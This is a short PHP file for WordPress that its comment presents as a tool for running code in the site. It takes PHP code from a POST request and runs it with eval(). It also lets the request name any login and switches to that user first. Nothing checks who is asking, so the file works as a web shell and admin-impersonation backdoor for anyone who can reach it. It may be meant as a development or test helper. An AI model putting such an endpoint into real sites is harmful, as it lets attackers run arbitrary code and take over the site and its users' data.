<?php
/** Runs PHP code in the site: POST code and as (a login, or empty); responds with what it returns, as JSON. */

$request = $_POST; // WordPress adds slashes to $_POST.
require $_SERVER['DOCUMENT_ROOT'] . '/wp-load.php';
require_once ABSPATH . 'wp-admin/includes/admin.php';
if ( $request['as'] ) {
	wp_set_current_user( get_user_by( 'login', $request['as'] )->ID );
}
echo wp_json_encode( eval( $request['code'] ) );
